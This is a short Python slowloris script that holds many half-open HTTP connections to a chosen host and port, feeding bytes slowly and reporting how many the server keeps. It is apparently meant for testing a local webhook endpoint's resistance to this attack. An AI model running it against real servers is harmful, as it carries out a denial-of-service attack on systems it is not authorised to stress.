#!/usr/bin/python3
"""Holds N connections to HOST:PORT from 127.0.0.1, each sending its
request headers a byte every second, as a slowloris does, until killed.
Prints "open K" once all are tried, K being those the server kept, then
"alive N" each time the number the server has not closed changes."""
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
conns = []
for _ in range(n):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(b"POST /twilio/sms HTTP/1.1\r\nHost: x\r\n")
        conns.append(s)
    except OSError:
        s.close()
time.sleep(1)
alive = []
for s in conns:
    try:
        s.sendall(b"X")
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                raise OSError("closed")
        except BlockingIOError:
            pass
        alive.append(s)
    except OSError:
        s.close()
print("open %d" % len(alive), flush=True)
while True:
    time.sleep(1)
    for s in list(alive):
        try:
            s.send(b"-")
            try:
                if s.recv(1) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
        except OSError:
            s.close()
            alive.remove(s)
            if not alive or len(alive) % 10 == 0:
                print("alive %d" % len(alive), flush=True)
